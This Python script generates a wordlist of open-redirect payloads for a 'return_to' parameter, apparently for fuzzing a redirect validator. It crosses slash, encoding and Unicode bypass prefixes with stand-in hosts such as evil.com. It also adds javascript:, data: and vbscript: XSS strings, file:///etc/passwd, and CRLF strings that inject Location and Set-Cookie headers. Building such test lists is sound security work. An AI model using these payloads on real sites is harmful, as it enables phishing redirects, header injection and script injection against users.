#!/usr/bin/env python3
"""Writes open-redirect-payloads.txt: known open-redirect payloads for the return_to
parameter, as they would appear in a query string (percent-encoded where a raw byte could
not travel).  Built from the usual families (scheme-relative slashes and backslashes,
encoded and double-encoded separators, schemes, CR/LF and control bytes, Unicode
look-alikes, @-tricks, dot segments) crossed with several targets."""
import os

targets = ["evil.com", "evil.com/", "evil.com/%2e%2e", "127.0.0.1", "2130706433", "0x7f.0x0.0x0.0x1",
           "[::1]", "evil.com%40site.example", "site.example.evil.com", "evil%E3%80%82com",
           "evil.com%23.site.example", "evil.com?.site.example"]

prefixes = [
    "//", "///", "////", "/\\", "\\/", "\\\\", "/\\\\", "\\/\\/", "/\\/", "//\\", "/%2f", "%2f%2f", "%2F%2F",
    "/%2F", "/%5c", "%5c%5c", "/%5C", "%5C%5C", "%2f%5c", "/%252f", "%252f%252f", "/%255c", "/%2f%2f",
    "/.//", "/./\\", "/./%2f", "/../", "/..//", "/%2e%2e/", "/%2e//", "/%2E/%2F", "https://", "http://",
    "https:/", "https:", "http:\\\\", "hTTps://", "//%09/", "/%09/", "%09//", "/%0a/", "/%0d/",
    "%0d%0a//", "/%00/", "%20//", "/%20/", "%EF%BC%8F%EF%BC%8F", "/%EF%BC%8F", "%E2%81%84%E2%81%84",
    "%E2%88%95%E2%88%95", "/%EF%BC%BC", "%EF%BC%BC%EF%BC%BC", "/%E2%80%8B/", "//%E3%80%82",
    "/%C0%AF", "%C0%AF%C0%AF", "/%u2215", "@", "/@", "//@", "./", ".\\", "..//", "",
]

schemes = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript%3Aalert(1)", "java%0ascript:alert(1)",
    "java%09script:alert(1)", "%6A%61%76%61%73%63%72%69%70%74:alert(1)", "%20javascript:alert(1)",
    "javascript://%0aalert(1)", "/javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "vbscript:msgbox(1)",
    "file:///etc/passwd", "ftp://evil.com", "mailto:a@evil.com", "//javascript:alert(1)",
    "/%0d%0aLocation:%20https://evil.com", "/%0D%0ASet-Cookie:%20x=1", "%0d%0aLocation:%20//evil.com",
    "/%0aLocation://evil.com", "/%E5%98%8A%E5%98%8DLocation:evil.com", "/%250d%250aX:y",
    "/%0d", "/%7f", "/%1b[31m", "/\\x2f\\x2fevil.com", "/%5Cx2f", "/<script>", "/\"onmouseover=alert(1)",
    "/'x", "/%22%3E%3Cscript%3E", "/a%00.html", "/%2500", "%2f", "/%", "/%2", "/%zz", "/%%32%66",
]

lines = []
for p in prefixes:
    for t in targets:
        lines.append(p + t)
lines.extend(schemes)
seen, out = set(), []
for l in lines:
    if l not in seen:
        seen.add(l)
        out.append(l)
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "open-redirect-payloads.txt"), "w") as f:
    f.write("\n".join(out) + "\n")
print(len(out), "payloads")
